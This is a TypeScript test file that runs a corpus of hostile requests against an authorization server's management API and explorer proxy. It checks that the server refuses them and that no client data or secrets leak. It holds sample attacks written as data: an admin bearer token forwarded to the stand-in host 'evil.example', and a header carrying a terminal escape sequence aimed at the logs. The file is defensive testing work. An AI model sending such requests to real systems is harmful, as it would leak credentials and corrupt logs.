/** The cases of the corpus against the management API (`admin/…`) and the explorer's proxy (`explorer/…`). */
import { randomBytes } from 'node:crypto'
import { Person, startServer, type TestServer } from '@keygrant/testkit'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type HostileCase, readCorpus } from './case.ts'
import { requestBytes, type Values } from './request.ts'
import { exchange, type WireAnswer } from './wire.ts'

const ours = readCorpus().filter(({ endpoint }) => /^(?:admin|explorer)\//u.test(endpoint))

const absent: Readonly<Record<string, string>> = {
  'AD-021': 'webhooks are not there yet',
}

/**
 * Cases in this server's words. The proxy takes a session alone: it is asked as the console would. An
 * ESC in a header is refused before anything reads it; a CSI of one byte gets further.
 */
const standIns: Readonly<Record<string, Partial<HostileCase>>> = {
  'AD-017': { headers: { 'User-Agent': 'x\u009b2J', 'X-Request-Id': 'a b"}' } },
  'AD-020': {
    endpoint: 'admin/explorer/requests',
    headers: {
      'Content-Type': 'application/json',
      Cookie: '{{console_cookie}}',
      Origin: '{{issuer}}',
      'X-Keygrant-CSRF': '{{console_csrf}}',
    },
    body: '{"method":"GET","url":"https://evil.example/","headers":[["Authorization","Bearer {{admin_at}}"]]}',
  },
}
const run = ours
  .filter(({ id }) => absent[id] === undefined)
  .map((each) => ({ ...each, ...standIns[each.id] }))

let server: TestServer
let values: Values
let secret: string
beforeAll(async () => {
  server = await startServer({ environment: { KEYGRANT_RATE_LIMIT: '100000' } })
  const scopes = [{ name: 'api.read' }]
  const api = { identifier: 'https://api.example.com', name: 'Example', scopes }
  await server.manage('POST', '/apis', api)
  const own = await server.manage('POST', '/clients', {
    name: 'own',
    type: 'machine',
    scope: 'api.read',
  })
  secret = String(own['client_secret'])
  const { clientId, clientSecret } = server.operator
  const { access_token: admin } = await server.token(clientId, clientSecret)
  const { access_token: other } = await server.token(String(own['client_id']), secret)
  values = {
    host: `localhost:${server.port}`,
    issuer: server.issuer,
    own_client: String(own['client_id']),
    admin_at: admin,
    at_other_rs: other,
    ...(await session()),
  }
})
afterAll(async () => {
  const skipped = Object.entries(absent).map(([id, why]) => `  ${id}: ${why}`)
  console.log(
    `hostile corpus, management: ${run.length} run, ${skipped.length} skipped\n${skipped.join('\n')}`,
  )
  await server[Symbol.asyncDispose]()
})

/** Somebody who is signed in to the console as an operator. */
async function session(): Promise<Values> {
  const account = { email: 'alice@example.com', password: randomBytes(12).toString('hex') }
  await server.manage('POST', '/users', { ...account, name: 'Alice', operator: true })
  const person = new Person(server.origin, account)
  await person.signIn()
  const cookie = person.cookieHeader
  const answer = await fetch(`${server.origin}/api/v1/session`, { headers: { cookie } })
  const { csrf_token } = (await answer.json()) as { csrf_token: string }
  return { console_cookie: cookie, console_csrf: csrf_token }
}

/** The corpus names a client in a path. */
const addressed = (endpoint: string): string =>
  endpoint.replace('{{own_client}}', values['own_client'] ?? '')

/** What a case promises beside its status. */
const also: Readonly<Record<string, (answer: WireAnswer) => Promise<void> | void>> = {
  'AD-010': ({ body }) => {
    expect(JSON.parse(body)).toHaveProperty('client_id', values['own_client'])
    expect(body).not.toContain(secret)
    expect(body).not.toMatch(/client_secret"|hash|"d":|sealed/u)
  },
  'AD-015': ({ headers }) => {
    const names = [...headers.keys()].filter((name) => name.startsWith('access-control'))
    expect(names).toEqual([])
  },
  'AD-017': async ({ body }) => {
    expect(body).not.toContain('a b')
    await server.keygrant.flush()
    // With what makes it a sequence: the two characters alone stand in many an id.
    const logs = JSON.stringify(await server.manage('GET', '/logs'))
    for (const sequence of ['\u009b2J', '\u001b[2J', '[2J']) expect(logs).not.toContain(sequence)
  },
}

describe.each(run)('$id $class ($level)', (each) => {
  it(`is answered ${each.expect.status.join(' or ')}, and nothing comes of it`, async () => {
    // When a client was last used is written later, which is nothing that came of this request.
    await server.keygrant.flush()
    const before = JSON.stringify(await server.manage('GET', '/clients?limit=200'))
    const answer = await exchange({
      port: server.port,
      bytes: requestBytes({ ...each, endpoint: addressed(each.endpoint) }, values),
      patience: 5_000,
    })
    expect(each.expect.status, answer.body).toContain(answer.status)
    if (answer.status >= 400)
      expect(answer.headers.get('content-type')).toContain('application/problem+json')
    expect(Boolean(each.expect.also) === (also[each.id] !== undefined)).toBe(true)
    await also[each.id]?.(answer)
    expect(JSON.stringify(await server.manage('GET', '/clients?limit=200'))).toBe(before)
  })
})

it('has every case of these endpoints either run or skipped for a stated reason', () => {
  expect(run.length + Object.keys(absent).length).toBe(ours.length)
})
